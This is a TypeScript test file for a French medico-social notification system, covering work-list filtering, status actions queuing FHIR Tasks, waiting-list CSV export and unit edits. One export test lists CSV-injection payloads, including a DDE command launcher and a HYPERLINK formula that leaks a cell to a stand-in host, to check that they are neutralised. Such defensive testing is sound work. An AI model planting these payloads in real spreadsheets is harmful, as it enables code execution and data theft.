import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AppError } from '@shared/errors/app-error';
import type { SqlDatabase } from '../db/sql/sql-database';
import { Journal } from '../journal/journal';
import { openTestStore, TEST_BACKENDS, type TestStore } from '../testing/test-stores';
import { performAction, previewAction, type ActionRequest } from './notification-actions';
import { readNotificationDetail } from './notification-detail';
import { seedWorklist, SEED_EGS } from './testing/worklist-seed';
import {
  createUnit,
  listGeographicEntities,
  listGeographicEntityNames,
  setLocalActivation,
  updateUnit,
  listUnits,
} from './units-and-entities';
import { listWaitingLists, waitingListsCsv, WAITING_CSV_HEADERS } from './waiting-lists';
import { parseCsvDocument } from '../export/csv';
import { listWorklist, readFacets, type WorklistFilter } from './worklist-queries';
import { DEFAULT_SDO_CONTEXT } from '../fhir';

const TODAY = '2026-07-01';
const now = () => new Date(`${TODAY}T10:00:00.000Z`);
const ALL: WorklistFilter = { showTerminated: true, sort: 'recu', direction: 'asc' };

describe.each(TEST_BACKENDS)('work list, actions, waiting lists, units (%s)', (backend) => {
  let store: TestStore;
  let db: SqlDatabase;
  let journal: Journal;

  beforeEach(async () => {
    store = await openTestStore(backend);
    db = store.db;
    journal = new Journal(db, now);
  });
  afterEach(async () => {
    await store.close();
  });

  const deps = () => ({ db, journal, now, today: () => TODAY, sdo: () => DEFAULT_SDO_CONTEXT });
  const count = async (sql: string, ...p: unknown[]) => Number(await db.value(sql, p));
  const unitId = async (idRor: string) => {
    const id = await db.value<number>('SELECT id FROM ror_unit WHERE id_ror = ?', [idRor]);
    if (id === undefined) throw new Error(`unité ${idRor} absente`);
    return id;
  };

  const list = (filter: WorklistFilter) => listWorklist(db, filter, TODAY);
  const rowsOf = async (filter: WorklistFilter) => (await list(filter)).rows;

  describe('work list', () => {
    it('masks finished notifications by default and shows them on demand', async () => {
      await seedWorklist(db, { count: 40, today: TODAY });
      const all = await list(ALL);
      const visible = await list({ ...ALL, showTerminated: false });
      expect(all.rows).toHaveLength(40);
      expect(visible.rows.every((r) => !r.terminated || r.unread || r.aTraiter)).toBe(true);
      expect(visible.rows.length + visible.hiddenTerminated).toBe(40);
      expect(all.rows.filter((r) => r.esmsStatus === '49').every((r) => r.terminated)).toBe(true);
      expect(visible.hiddenTerminated).toBeGreaterThanOrEqual(4);
    });

    it('never masks a notification the referent has not read: expired unread stays, à traiter, until read', async () => {
      await seedWorklist(db, { count: 10, today: TODAY });
      const unread = (await rowsOf(ALL)).find((r) => r.esmsStatus === '39');
      if (!unread) throw new Error('seed');
      // It arrives already expired (the MDPH notified late), with no other mark: finished for the rules, never seen.
      await db.run('UPDATE notification SET a_traiter = 0, a_traiter_reason = NULL WHERE id = ?', [unread.id]);
      await db.run(
        'UPDATE decision SET validity_end = ? WHERE id = (SELECT decision_id FROM notification WHERE id = ?)',
        ['2026-06-01', unread.id],
      );
      const listed = () => rowsOf({ ...ALL, showTerminated: false });
      const row = (await listed()).find((r) => r.id === unread.id);
      expect(row).toMatchObject({ terminated: true, unread: true, aTraiter: true, validity: 'expiree' });
      expect(row?.aTraiterReason).toContain('avant lecture');
      expect((await rowsOf({ ...ALL, showTerminated: false, aTraiter: true })).map((r) => r.id)).toContain(unread.id);
      // Once read, it is finished like any other expired notification: masked.
      await db.run("UPDATE notification SET esms_status = '40' WHERE id = ?", [unread.id]);
      expect((await listed()).some((r) => r.id === unread.id)).toBe(false);
    });

    it('filters by EG, status, category, à traiter, validity, and searches name, MDPH id and idDecision', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const all = await rowsOf(ALL);
      const first = all[0];
      if (!first) throw new Error('seed');
      expect((await rowsOf({ ...ALL, finessEg: '010000012' })).every((r) => r.finessEg === '010000012')).toBe(true);
      expect((await rowsOf({ ...ALL, esmsStatus: '42' })).every((r) => r.esmsStatus === '42')).toBe(true);
      expect((await rowsOf({ ...ALL, category: '11.1' })).every((r) => r.category === '11.1')).toBe(true);
      const aTraiter = await rowsOf({ ...ALL, aTraiter: true });
      expect(aTraiter.length).toBe(all.filter((r) => r.aTraiter || r.unread).length);
      expect(aTraiter.some((r) => r.unread && !r.aTraiter)).toBe(true);
      expect(aTraiter.length).toBeGreaterThan(0);
      const expired = await rowsOf({ ...ALL, validity: 'expiree' });
      expect(expired.every((r) => r.validityEnd !== null && r.validityEnd < TODAY)).toBe(true);
      expect((await rowsOf({ ...ALL, search: first.idDecision })).map((r) => r.id)).toEqual([first.id]);
      expect((await rowsOf({ ...ALL, search: first.mdphIndividualId })).map((r) => r.id)).toContain(first.id);
      const byName = await rowsOf({ ...ALL, search: first.givenNames.toLowerCase() });
      expect(byName.map((r) => r.id)).toContain(first.id);
      const sorted = (await rowsOf({ ...ALL, sort: 'validite', direction: 'asc' })).map((r) => r.validityEnd ?? '');
      expect(sorted).toEqual([...sorted].sort());
    });

    it('meets every criterion, alone and combined, masked or not, in every order, as a row-by-row reading does', async () => {
      await seedWorklist(db, { count: 80, today: TODAY });
      const all = await rowsOf(ALL);
      const values = <T>(of: (r: (typeof all)[number]) => T | null | undefined) =>
        [...new Set(all.map(of))].filter((v): v is T => v !== null && v !== undefined);
      const first = all[0];
      if (!first) throw new Error('seed');
      // Each criterion with each value the list holds, plus one it does not hold.
      const single: Partial<WorklistFilter>[] = [
        ...values((r) => r.finessEg).map((finessEg) => ({ finessEg })),
        ...values((r) => r.esmsStatus).map((esmsStatus) => ({ esmsStatus })),
        ...values((r) => r.category).map((category) => ({ category })),
        ...values((r) => r.validity).map((validity) => ({ validity })),
        ...values((r) => r.units[0]?.unitId).map((unitId) => ({ unitId })),
        ...values((r) => r.units[0]?.status).map((unitStatus) => ({ unitStatus })),
        { aTraiter: true },
        { esmsStatus: '99' },
        { finessEg: '999999999' },
      ];
      const searched = { search: first.familyName.slice(0, 3) };
      const criteria = [
        ...single,
        { ...single[0], ...single.find((c) => 'esmsStatus' in c) },
        { ...single.find((c) => 'validity' in c), aTraiter: true },
        { ...single.find((c) => 'unitStatus' in c), ...single.find((c) => 'category' in c) },
        { ...searched, ...single[0] },
        { ...searched, aTraiter: true },
      ];
      // Read row by row, independently of the list's own pass.
      const searchHits = new Set((await rowsOf({ ...ALL, ...searched })).map((r) => r.id));
      expect(searchHits.size).toBeGreaterThan(0);
      const meets = (c: Partial<WorklistFilter>, r: (typeof all)[number]) =>
        (c.finessEg === undefined || r.finessEg === c.finessEg) &&
        (c.esmsStatus === undefined || r.esmsStatus === c.esmsStatus) &&
        (c.category === undefined || r.category === c.category) &&
        (c.validity === undefined || r.validity === c.validity) &&
        (c.unitId === undefined || r.units.some((u) => u.unitId === c.unitId)) &&
        (c.unitStatus === undefined || r.units.some((u) => u.status === c.unitStatus)) &&
        (!c.aTraiter || r.aTraiter || r.unread) &&
        (c.search === undefined || searchHits.has(r.id));
      const shownMasked = (r: (typeof all)[number]) => !r.terminated || r.aTraiter || r.unread;
      let nonEmpty = 0;
      for (const [sort, direction] of [
        ['recu', 'desc'],
        ['nom', 'asc'],
        ['validite', 'desc'],
      ] as const) {
        // Filtering keeps the order: the expected list is the whole sorted list, read row by row.
        const sorted = await rowsOf({ ...ALL, sort, direction });
        // The snapshot's first search reads row by row and has the joined search text made once it is answered: the
        // later orders search the joined text. Both ways are checked.
        await new Promise((resolve) => setImmediate(resolve));
        for (const c of criteria) {
          for (const showTerminated of [true, false]) {
            const result = await list({ ...c, showTerminated, sort, direction });
            const matching = sorted.filter((r) => meets(c, r));
            const shown = matching.filter((r) => showTerminated || shownMasked(r));
            expect(
              result.rows.map((r) => r.id),
              JSON.stringify({ c, showTerminated, sort }),
            ).toEqual(shown.map((r) => r.id));
            expect(result.totalMatching).toBe(matching.length);
            expect(result.hiddenTerminated).toBe(matching.length - shown.length);
            if (shown.length > 0 && shown.length < all.length) nonEmpty += 1;
          }
        }
      }
      // The criteria do select: most lists are neither empty nor the whole list.
      expect(nonEmpty).toBeGreaterThan(criteria.length);
    });

    it('rebuilds its snapshot when the store changes or the day turns, not otherwise', async () => {
      await seedWorklist(db, { count: 6, today: TODAY });
      const before = await rowsOf(ALL);
      const target = before[0];
      if (!target) throw new Error('seed');
      // Unchanged store, same day: the very rows of the last read, not a new one.
      expect((await rowsOf(ALL))[0]).toBe(target);
      await db.run("UPDATE notification SET esms_status = '40' WHERE id = ?", [target.id]);
      const changed = (await rowsOf(ALL))[0];
      expect(changed).not.toBe(target);
      expect(changed).toMatchObject({ id: target.id, esmsStatus: '40' });
      // The day turning moves the validity colours though nothing was written.
      const later = (await listWorklist(db, ALL, '2099-01-01')).rows;
      expect(later[0]).not.toBe(changed);
      expect(later.every((r) => r.validity === 'expiree' || r.validity === 'inconnue')).toBe(true);
      // The list and its facets asked at once share one build.
      const [listed, facets] = await Promise.all([list(ALL), readFacets(db, TODAY)]);
      expect(facets.categories.map((c) => c.code).sort()).toEqual(
        [...new Set(listed.rows.map((r) => r.category).filter((c) => c !== null))].sort(),
      );
      expect(facets.geographicEntities.map((g) => g.finessEg)).toEqual(SEED_EGS.map((g) => g.finessEg));
    });

    it('sends a window of the ordered list with its total, the list kept for the next window until the store changes', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const byName: WorklistFilter = { ...ALL, showTerminated: false, sort: 'nom', direction: 'desc' };
      const whole = await list(byName);
      const first = await listWorklist(db, byName, TODAY, { offset: 0, limit: 10 });
      const second = await listWorklist(db, byName, TODAY, { offset: 10, limit: 10 });
      expect(first).toMatchObject({ offset: 0, total: whole.total, hiddenTerminated: whole.hiddenTerminated });
      expect(whole.total).toBe(whole.rows.length);
      expect([...first.rows, ...second.rows].map((r) => r.id)).toEqual(whole.rows.slice(0, 20).map((r) => r.id));
      // Past the end: no rows, the total still told, so the screen can come back within the list.
      const beyond = await listWorklist(db, byName, TODAY, { offset: 1_000, limit: 10 });
      expect(beyond).toMatchObject({ rows: [], offset: whole.total, total: whole.total });
      // Another filter between two windows does not disturb the first list's order.
      await list({ ...ALL, search: 'a' });
      expect((await listWorklist(db, byName, TODAY, { offset: 10, limit: 10 })).rows).toEqual(second.rows);
      // A change in the store is in the next window, not an order kept from before.
      const moved = second.rows[0];
      if (!moved) throw new Error('seed');
      await db.run("UPDATE notification SET esms_status = '40' WHERE id = ?", [moved.id]);
      const after = await listWorklist(db, byName, TODAY, { offset: 10, limit: 10 });
      expect(after.rows.find((r) => r.id === moved.id)?.esmsStatus).toBe('40');
      // Received, newest first (the order taken without a sort): ids strictly decreasing, the snapshot left as it was.
      const newest = (await list({ ...ALL, direction: 'desc' })).rows.map((r) => r.id);
      expect(newest).toEqual([...newest].sort((a, b) => b - a));
      expect(new Set(newest).size).toBe(newest.length);
      const oldest = (await list(ALL)).rows.map((r) => r.id);
      expect(oldest).toEqual([...newest].reverse());
    });

    it('builds 10,000 rows (figure printed for the report)', async () => {
      await seedWorklist(db, { count: 10_000, today: TODAY });
      const result = await list({ ...ALL, showTerminated: false, sort: 'nom' });
      expect(result.totalMatching).toBe(10_000);
      console.info(`work list of 10,000 notifications built in ${result.elapsedMs} ms (${backend})`);
      // Seeding 10,000 rows alone took most of the default 60 s on the shared 2-core machine (load 30).
    }, 180_000);

    it('hides the notifications of an EG switched off locally', async () => {
      await seedWorklist(db, { count: 9, today: TODAY });
      await setLocalActivation(db, '010000013', false, TODAY);
      expect((await rowsOf(ALL)).some((r) => r.finessEg === '010000013')).toBe(false);
      const eg = (await listGeographicEntities(db, TODAY)).find((g) => g.finessEg === '010000013');
      expect(eg?.localActivated).toBe(false);
      expect(eg?.nextSteps.join(' ')).toContain('Activez');
      expect(eg?.counts.notifications).toBe(3);
      // The names the screens show: every establishment, switched off or not, named as in the full list.
      const names = await listGeographicEntityNames(db);
      expect(names).toEqual(
        (await listGeographicEntities(db, TODAY)).map((g) => ({ finessEg: g.finessEg, name: g.name })),
      );
      expect(names.map((g) => g.finessEg)).toContain('010000013');
    });
  });

  describe('actions', () => {
    async function firstWith(finessEg: string, esmsStatus: string): Promise<number> {
      const id = await db.value<number>(
        'SELECT id FROM notification WHERE finess_eg = ? AND esms_status = ? ORDER BY id LIMIT 1',
        [finessEg, esmsStatus],
      );
      if (id === undefined) throw new Error(`aucune notification ${esmsStatus} pour ${finessEg}`);
      return id;
    }

    it('places a notification on a unit waiting list in one transaction: unit line, status, journal, valid Task queued', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const id = await firstWith('010000011', '41');
      const unit = await unitId('ROR-UNIT-ESAT-1');
      const request: ActionRequest = {
        notificationId: id,
        action: 'demande-admission',
        date: '2026-06-28',
        unitId: unit,
      };
      const preview = await previewAction(db, request);
      // In the referent's words; the codes apart, for the "détail technique".
      expect(preview.lines.map((l) => l.text).join('\n')).toContain(
        "Statut ESMS « Liste d'attente. En cours d'analyse, demande d'admission reçue dans l'ESMS »",
      );
      expect(preview.lines.map((l) => l.text).join('\n')).not.toMatch(/\b(42|182)\b/);
      expect(preview.lines.map((l) => l.technical).join('\n')).toMatch(/statut ESMS 42.*statut 182/);
      expect(await count('SELECT count(*) FROM outbox')).toBe(0);

      const result = await performAction(deps(), request);
      expect(result.outboxIds).toHaveLength(1);
      const outbox = await db.get<{ payload_json: string; state: string; finess_eg: string }>(
        'SELECT payload_json, state, finess_eg FROM outbox',
      );
      expect(outbox?.state).toBe('pending');
      expect(outbox?.finess_eg).toBe('010000011');
      const task = JSON.parse(outbox?.payload_json ?? '{}') as {
        resourceType: string;
        input: { valueString?: string; valueCoding?: { code: string } }[];
      };
      expect(task.resourceType).toBe('Task');
      const values = JSON.stringify(task.input);
      for (const v of ['ROR-UNIT-ESAT-1', 'Atelier blanchisserie', '"182"', '"42"', '"43"', '"47"'])
        expect(values).toContain(v);
      expect(await db.get('SELECT esms_status, esms_status_date FROM notification WHERE id = ?', [id])).toEqual({
        esms_status: '42',
        esms_status_date: '2026-06-28',
      });
      expect(await db.get('SELECT status, request_date FROM unit_line WHERE notification_id = ?', [id])).toEqual({
        status: '182',
        request_date: '2026-06-28',
      });
      expect(
        await count(
          "SELECT count(*) FROM journal WHERE action LIKE 'Statut enregistré%' AND record_id = ?",
          String(id),
        ),
      ).toBe(1);

      const detail = await readNotificationDetail(db, id, TODAY);
      // The decision shown is read from the stored CDA of this notification's decision.
      expect(detail.decision).not.toBeNull();
      expect(detail.row.idDecision.startsWith(`${detail.decision?.decision.idDecision}-`)).toBe(true);
      expect(detail.timeline[0]).toMatchObject({ origin: 'local', statutUnite: '182', transmission: 'en attente' });
      expect(detail.actions.map((a) => a.id)).toContain('declarer-admissible');
    });

    it('sends two Tasks when a proposal moves from one unit to another', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const id = await firstWith('010000011', '71');
      const from = await db.value<number>('SELECT ror_unit_id FROM unit_line WHERE notification_id = ?', [id]);
      const esatUnits = [await unitId('ROR-UNIT-ESAT-1'), await unitId('ROR-UNIT-ESAT-2')];
      const to = esatUnits.find((u) => u !== from) ?? 0;
      const result = await performAction(deps(), {
        notificationId: id,
        action: 'modifier-proposition',
        date: '2026-06-30',
        unitId: from,
        targetUnitId: to,
        motif: '100',
      });
      expect(result.outboxIds).toHaveLength(2);
      const lines = await db.all<{ ror_unit_id: number; status: string }>(
        'SELECT ror_unit_id, status FROM unit_line WHERE notification_id = ? ORDER BY ror_unit_id',
        [id],
      );
      expect(lines).toEqual(
        [
          { ror_unit_id: from, status: '180' },
          { ror_unit_id: to, status: '184' },
        ].sort((a, b) => (a.ror_unit_id ?? 0) - (b.ror_unit_id ?? 0)),
      );
    });

    it('refuses an action the state does not allow and writes nothing', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const id = await firstWith('010000011', '39');
      const attempt = performAction(deps(), {
        notificationId: id,
        action: 'entree-usager',
        date: TODAY,
        unitId: await unitId('ROR-UNIT-ESAT-1'),
      });
      await expect(attempt).rejects.toThrow(AppError);
      expect((await count('SELECT count(*) FROM outbox')) + (await count('SELECT count(*) FROM status_event'))).toBe(0);
    });

    it('writes nothing when a Task it would queue is invalid: the statuses and their outbox rows go together', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const id = await firstWith('010000011', '71');
      const from = await db.value<number>('SELECT ror_unit_id FROM unit_line WHERE notification_id = ?', [id]);
      const esatUnits = [await unitId('ROR-UNIT-ESAT-1'), await unitId('ROR-UNIT-ESAT-2')];
      const to = esatUnits.find((u) => u !== from) ?? 0;
      // The second Task (the new unit) carries a category outside its list: validation refuses it once the first
      // one (closing the old unit) is already queued.
      await db.run("UPDATE ror_unit SET categorie_organisation = '9999' WHERE id = ?", [to]);
      const state = () =>
        Promise.all([
          db.get('SELECT esms_status, esms_status_date, a_traiter FROM notification WHERE id = ?', [id]),
          db.all('SELECT ror_unit_id, status, status_date FROM unit_line WHERE notification_id = ? ORDER BY id', [id]),
        ]);
      const before = await state();
      const attempt = performAction(deps(), {
        notificationId: id,
        action: 'modifier-proposition',
        date: '2026-06-30',
        unitId: from,
        targetUnitId: to,
        motif: '100',
      });
      await expect(attempt).rejects.toMatchObject({ code: 'RESOURCE_INVALID' });
      expect(await state()).toEqual(before);
      expect(
        (await count('SELECT count(*) FROM outbox')) +
          (await count('SELECT count(*) FROM status_event')) +
          (await count("SELECT count(*) FROM journal WHERE action LIKE 'Statut enregistré%'")),
      ).toBe(0);
    });

    it('never offers the trial period for an ESRP, and offers it for an ESAT', async () => {
      await seedWorklist(db, { count: 30, today: TODAY });
      const esrp = await firstWith('010000012', '71');
      expect((await readNotificationDetail(db, esrp, TODAY)).actions.map((a) => a.id)).not.toContain(
        'debut-periode-essai',
      );
      const esat = await firstWith('010000011', '71');
      expect((await readNotificationDetail(db, esat, TODAY)).actions.map((a) => a.id)).toContain('debut-periode-essai');
    });
  });

  describe('waiting lists, units', () => {
    it('lists 182/183/184 per unit by request date, and exports them as French CSV', async () => {
      await seedWorklist(db, { count: 60, today: TODAY });
      const units = await listWaitingLists(db, {}, TODAY);
      const withEntries = units.filter((u) => u.entries.length > 0);
      expect(withEntries.length).toBeGreaterThan(1);
      for (const u of withEntries) {
        const dates = u.entries.map((e) => e.requestDate);
        expect(dates).toEqual([...dates].sort());
        expect(u.entries.every((e) => ['182', '183', '184'].includes(e.status))).toBe(true);
      }
      const csv = waitingListsCsv(units);
      expect(csv.content.startsWith('\uFEFF')).toBe(true);
      const lines = csv.content.slice(1).trimEnd().split('\r\n');
      expect(lines[0]).toBe(WAITING_CSV_HEADERS.join(';'));
      expect(lines).toHaveLength(csv.rows + 1);
      expect(csv.rows).toBe(withEntries.reduce((s, u) => s + u.entries.length, 0));
      const first = withEntries[0]?.entries[0];
      expect(lines[1]?.split(';')[3]).toBe(first?.familyName);
      expect(lines[1]).toMatch(/;\d{2}\/\d{2}\/\d{4};/);
    });

    it('exports no cell a spreadsheet would run: formula-leading names, identifiers and free text are neutralised', async () => {
      await seedWorklist(db, { count: 60, today: TODAY });
      const hostile = [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
        '+33 1 00 00 00 00',
        '-2+3',
        '@SUM(1+1)',
        '\t=1+1',
        '\r=1+1',
      ];
      const units = (await listWaitingLists(db, {}, TODAY))
        .filter((u) => u.entries.length > 0)
        .map((u, i) => ({
          ...u,
          egName: hostile[i % hostile.length]!,
          unitName: hostile[(i + 1) % hostile.length]!,
          idRor: hostile[(i + 2) % hostile.length]!,
          entries: u.entries.map((e, j) => ({
            ...e,
            familyName: hostile[j % hostile.length]!,
            givenNames: hostile[(j + 1) % hostile.length]!,
            mdphIndividualId: hostile[(j + 2) % hostile.length]!,
            idDecision: hostile[(j + 3) % hostile.length]!,
            priority: hostile[(j + 4) % hostile.length]!,
            categoryLabel: hostile[(j + 5) % hostile.length]!,
          })),
        }));
      const csv = waitingListsCsv(units);
      const rows = parseCsvDocument(csv.content);
      expect(rows).toHaveLength(csv.rows + 1);
      const cells = rows.slice(1).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      // Nothing is lost: each hostile value is there, behind its apostrophe.
      for (const value of hostile) expect(cells).toContain(`'${value}`);
      expect(rows[1]).toHaveLength(WAITING_CSV_HEADERS.length);
    });

    it('validates a unit edit against J34/J30/J264 and marks it locally edited', async () => {
      await seedWorklist(db, { count: 1, today: TODAY });
      const id = await unitId('ROR-UNIT-ESAT-1');
      const base = {
        id,
        name: 'Atelier renommé',
        categorieOrganisation: '43',
        temporaliteAccueil: '02',
        accueilSequentiel: true,
        modePriseCharge: '47',
      };
      await expect(updateUnit(db, { ...base, modePriseCharge: '11' }, now().toISOString())).rejects.toThrow(/JDV_J19/);
      await expect(updateUnit(db, { ...base, categorieOrganisation: '9999' }, now().toISOString())).rejects.toThrow(
        AppError,
      );
      await expect(updateUnit(db, { ...base, temporaliteAccueil: '07' }, now().toISOString())).rejects.toThrow(
        AppError,
      );
      const unit = await updateUnit(db, base, now().toISOString());
      expect(unit).toMatchObject({
        name: 'Atelier renommé',
        locallyEdited: true,
        accueilSequentiel: true,
        missing: [],
      });
      expect((await listUnits(db)).find((u) => u.id === id)?.modePriseChargeLabel).toBe('Accueil de jour');
      expect(SEED_EGS).toHaveLength(3);
    });

    it('adds a local unit with its ROR identifier, validated like an edit, once per identifier and known EG', async () => {
      await seedWorklist(db, { count: 1, today: TODAY });
      const eg = SEED_EGS[0].finessEg;
      const creation = {
        finessEg: eg,
        idRor: 'ROR-UNIT-LOCALE-1',
        name: 'Atelier repassage',
        categorieOrganisation: '43',
        temporaliteAccueil: null,
        accueilSequentiel: false,
        modePriseCharge: '47',
      };
      const at = now().toISOString();
      await expect(createUnit(db, { ...creation, modePriseCharge: '11' }, at)).rejects.toThrow(/JDV_J19/);
      await expect(createUnit(db, { ...creation, finessEg: '999999999' }, at)).rejects.toThrow(/inconnu/);
      await expect(createUnit(db, { ...creation, idRor: 'ROR-UNIT-ESAT-1' }, at)).rejects.toThrow(/déjà/);
      const unit = await createUnit(db, creation, at);
      expect(unit).toMatchObject({ origin: 'local', locallyEdited: true, finessEg: eg, missing: [] });
      expect((await listUnits(db, eg)).map((u) => u.idRor)).toContain('ROR-UNIT-LOCALE-1');
      await expect(createUnit(db, creation, at)).rejects.toThrow(/déjà/);
    });
  });
});
